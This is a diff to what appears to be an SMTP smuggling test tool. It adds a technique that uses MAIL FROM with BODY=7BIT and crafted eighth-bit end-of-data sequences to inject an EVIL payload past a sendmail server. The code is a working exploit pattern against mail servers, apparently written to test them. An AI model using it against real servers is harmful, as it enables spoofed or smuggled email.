@@ -91,3 +91,19 @@ def smuggling_seven_bits(attack: Attack) -> None:
         connection = attack.text()
         connection.put(b"Subject: one\r\n\r\nhello" + end + EVIL)
         connection.put(b"more text\r\n.\r\n")
+
+
+@technique(
+    "smuggling-body-7bit",
+    "MAIL's BODY=7BIT, by which sendmail clears the eighth bits of the message: 0x8D 0x8A 0xAE ends it",
+    server=Personality(seven_bits=True),
+)
+def smuggling_body_7bit(attack: Attack) -> None:
+    for end in (b"\r\n\xae\r\n", b"\x8d\x8a\xae\x8d\x8a", b"\r\n.\x8d\x8a"):
+        connection = attack.session()
+        for line in (b"MAIL FROM:<evil@example.net> BODY=7BIT\r\n", b"RCPT TO:<bob@example.com>\r\n"):
+            connection.say(line)
+        connection.say(b"DATA\r\n")
+        connection.put(b"Subject: one\r\n\r\nhello" + end + EVIL)
+        connection.put(b"more text\r\n.\r\n")
+        connection.read()
